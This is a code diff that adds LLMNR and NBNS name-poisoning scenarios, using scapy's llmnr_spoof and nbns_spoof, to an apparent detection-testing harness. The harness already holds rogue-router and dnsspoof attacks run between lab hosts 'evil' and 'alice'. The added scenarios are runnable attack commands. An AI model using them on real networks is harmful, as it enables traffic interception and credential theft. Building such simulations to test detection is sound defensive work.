@@ -87,6 +87,31 @@ function forged(site: Site, command: string): Plan {
 
 const forgery = { class: 'names.forged', alerts: ['names.forged'], technique: 'T1557', speeds } as const;
 
+/** Alice looks for computers that are not; whoever is asked, evil says that it is the one. By scapy's `answer`, which takes its own address. */
+function poisoned(answer: string, ask: (site: Site, name: string) => string, needs: readonly string[]): Attack {
+  const names = ['filesrv', 'wpad', 'intranet', 'printer7', 'mailhost'];
+  return {
+    class: 'names.poisoned',
+    alerts: ['names.poisoned'],
+    technique: 'T1557.001',
+    tool: `scapy ${answer}`,
+    needs: ['scapy', ...needs],
+    speeds,
+    plan: (site) => ({
+      jobs: [
+        {
+          host: 'evil',
+          argv: ['timeout', '-s', 'INT', '15', '/usr/bin/python3', '-c', `from scapy.all import *; ${answer}(iface='eth0')`],
+        },
+        { host: 'alice', argv: ['bash', '-c', `sleep 4; ${names.map((name) => `${ask(site, name)} > /dev/null; sleep 0.5`).join('; ')}`] },
+      ],
+      attackers: [site.address('evil')],
+      victims: [site.address('alice')],
+      seconds: 18,
+    }),
+  };
+}
+
 export const neighbourAttacks: readonly Attack[] = [
   thc('rogue', 'ndp.rogue-router', 'fake_router6', 'T1557', () => 'eth0 fd00:bad::/64'),
   thc('rogue.dns', 'ndp.rogue-router', 'fake_router26', 'T1557', () => '-A fd00:bad::/64 -D fd00:bad::53 eth0'),
@@ -152,4 +177,6 @@ export const neighbourAttacks: readonly Attack[] = [
     needs: ['dnsspoof', 'dig'],
     plan: (site) => forged(site, 'exec timeout -s INT 20 dnsspoof -i eth0'),
   },
+  poisoned('llmnr_spoof', (_site, name) => `dig +noedns +norecurse +tries=1 +time=1 -p 5355 @224.0.0.252 ${name} A`, ['dig']),
+  poisoned('nbns_spoof', ({ net }, name) => `nmblookup -B ${net}.255 ${name}`, ['nmblookup']),
 ];
